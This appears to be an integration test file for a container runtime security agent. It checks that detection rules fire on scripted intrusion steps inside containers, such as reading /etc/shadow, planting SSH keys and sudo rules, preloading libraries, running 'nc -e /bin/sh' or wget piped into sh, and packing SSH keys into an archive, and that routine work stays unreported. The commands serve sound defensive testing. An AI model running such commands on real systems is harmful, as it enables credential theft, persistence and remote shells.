import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type DetectionLine, startAgent, type TestAgent } from './harness/agent.js';
import { requireRuntime, runtimes } from './harness/index.js';

/** Rules that fire on what one container does, one line of its script each. Later lines build on earlier ones. */
const ATTACKS: readonly (readonly [rule: string, act: string])[] = [
  ['Kernel helper program replaced', 'exercise open /proc/sys/kernel/core_pattern w'],
  ['Password hashes read', 'cat /etc/shadow'],
  [
    'Private key read by a stray program',
    'mkdir -p /root/.ssh; echo key > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa',
  ],
  ['SSH login key planted', 'echo key >> /root/.ssh/authorized_keys'],
  ['Account database changed', 'echo me >> /etc/passwd'],
  ['Loader configuration hijacked', 'exercise creat /etc/ld.so.preload; rm /etc/ld.so.preload'],
  ['Shell start-up file changed', 'echo : >> /root/.profile'],
  ['Scheduled job planted', 'mkdir -p /etc/cron.d; echo job > /etc/cron.d/job'],
  ['Sudo rules changed', 'mkdir -p /etc/sudoers.d; echo me > /etc/sudoers.d/me'],
  ['System program replaced', 'echo : > /usr/bin/tool'],
  ['Program started from a scratch directory', 'cp /bin/busybox /tmp/busybox; /tmp/busybox true'],
  ['Miner started', 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig true'],
  ['Program not in the image started', 'exercise drop-exec /usr/local/bin/exercise /root/dropped sleep 1'],
  ['Program run from memory', 'exercise memfd-exec /usr/local/bin/exercise sleep 1'],
  ['Deleted program started', 'exercise unlinked-exec /usr/local/bin/exercise /root/gone sleep 1'],
  ['Set-user-ID bit given to a file', 'exercise chmod /tmp/busybox 4755'],
  ['Shell wired to the network', 'exercise redirect dup2'],
  ['Process memory taken over by tracing', 'exercise ptrace-attach'],
  ['Process memory read', 'exercise vm-readv'],
  ['User namespace created', 'exercise unshare user'],
  ['Packet socket opened', 'exercise socket packet raw'],
  ['Environment of another process read', 'cat /proc/1/environ > /dev/null'],
  ['Kernel addresses or log read', 'cat /proc/kallsyms > /dev/null'],
  ['Directory entered through a leaked descriptor', 'cd /proc/1/root; cd /'],
  ['Link planted to a host or secret file', 'exercise symlink /etc/shadow /tmp/link'],
  ['Anonymity network contacted', 'exercise connect 127.0.0.1 9050'],
  ['Cluster control port contacted by hand', 'nc -w 1 127.0.0.1 10250 < /dev/null'],
  ['Network tool runs a program', 'nc -e /bin/sh 127.0.0.1 1 < /dev/null'],
  ['Command history wiped', 'echo ls > /root/.ash_history; rm /root/.ash_history'],
  ['System log wiped', 'echo line > /var/log/wtmp; rm /var/log/wtmp'],
  ['File renamed as by ransomware', 'exercise rename /root/dropped /root/dropped.lockbit'],
  ['Encoded text decoded and run', 'sh -c "echo aWQK | base64 -d | sh"'],
  ['Download piped into an interpreter', 'sh -c "wget -q -O - http://127.0.0.1:1/x | sh"'],
  ['Secrets packed into an archive', 'tar cf /tmp/keys.tar /root/.ssh'],
];

/** Acts that need a privileged container; none of them touches what is outside of it. */
const PRIVILEGED: typeof ATTACKS = [
  [
    'Kernel file system mounted inside a container',
    'mkdir /tmp/d; mount -t debugfs none /tmp/d; umount /tmp/d',
  ],
  ['Namespace of another process entered', 'exercise setns mnt 1'],
  ['Block device node created', 'exercise mknod /root/disk b 7 250'],
];

/** What entrypoints, health checks and services do all day. */
const ORDINARY = `
id; hostname; grep -q root /etc/passwd; env > /dev/null; date
mkdir -p /var/lib/app /run/app; cp /etc/hosts /var/lib/app/; sed -i s/local/LOCAL/ /var/lib/app/hosts
chown -R 65534:65534 /var/lib/app; chmod 755 /var/lib/app; ln -s /var/lib/app /srv/app
echo '#!/bin/sh' > /tmp/health.sh; chmod +x /tmp/health.sh; /tmp/health.sh
ps > /dev/null; mount > /dev/null; df > /dev/null; cat /proc/meminfo /proc/self/status > /dev/null
tar cf /var/lib/app/b.tar -C /var/lib app/hosts; gzip /var/lib/app/b.tar; rm -rf /var/lib/app/b.tar.gz
find /var/log -mtime +7; mv /var/lib/app/hosts /var/lib/app/hosts.bak; touch /tmp/ready
httpd -p 127.0.0.1:8080 -h /srv; sleep 0.1; nc -w 1 127.0.0.1 8080 < /dev/null
exercise connect 127.0.0.1 8080; exercise write /tmp/x y; exercise unlink /tmp/x; exercise pipe; exercise mmap-exec
exercise setuid 65534; kill -0 $$
`;

/** A container is young in a test: what is excused in its first seconds is not excused here. */
const NEVER_SETTLING =
  '- macro: container_settling\n  condition: (evt.type = reboot and evt.type != reboot)\n';

let agent: TestAgent;
const folder = mkdtempSync(join(tmpdir(), 'runward-default-rules-'));

beforeAll(async () => {
  const own = join(folder, 'own.yaml');
  writeFileSync(own, NEVER_SETTLING);
  agent = await startAgent({ rules: ['rules', own] });
});

afterAll(async () => {
  await agent.stop();
  rmSync(folder, { recursive: true });
});

/** By id, which needs no answer from the runtime. */
const isFrom = (line: DetectionLine, container: { readonly id: string }): boolean =>
  line.output_fields['container.id'] === container.id.slice(0, 12);

const rulesOf = (container: { readonly id: string }): readonly string[] =>
  agent.detections.filter((line) => isFrom(line, container)).map((line) => line.rule);

describe('the default rules, on real containers', () => {
  const runc = runtimes.runc();
  beforeEach((test) => requireRuntime(runc, test));
  afterAll(() => runc.close());

  test.each([
    { what: 'an intrusion', acts: ATTACKS, privileged: false },
    { what: 'a way out of a privileged container', acts: PRIVILEGED, privileged: true },
  ])('report each step of $what', async ({ acts, privileged }) => {
    const script = acts.map(([, act]) => act).join('\n');
    // The script travels as a file, for its text is full of what the rules look for in arguments.
    const file = join(folder, `script-${privileged}`);
    writeFileSync(file, script);
    const mounts = [{ source: file, target: '/run/script', readonly: true }];
    const done = await runc.runToEnd({ args: ['sh', '/run/script'], privileged, mounts });
    const missing = async (): Promise<string[]> => {
      const seen = new Set(rulesOf(done));
      return acts.map(([rule]) => rule).filter((rule) => !seen.has(rule));
    };
    await expect.poll(missing, { timeout: 5000 }).toEqual([]);
  });
});

describe.each(['runc', 'crun', 'containerd-cri', 'docker', 'podman'] as const)('under %s', (runtimeName) => {
  const runtime = runtimes[runtimeName]();
  beforeEach((test) => requireRuntime(runtime, test));
  afterAll(() => runtime.close());

  test.each([false, true])(
    'ordinary work in a container stays unreported (privileged: %s)',
    async (privileged) => {
      const quiet = await runtime.runToEnd({ args: ['sh', '-c', ORDINARY], privileged });
      const last = await runtime.runToEnd({ args: ['cat', '/etc/shadow'] });
      // Events of later containers come later: once this one is seen, the quiet one's would have been too.
      await agent.until((line) => isFrom(line, last));
      expect(rulesOf(quiet)).toEqual([]);
    },
  );
});
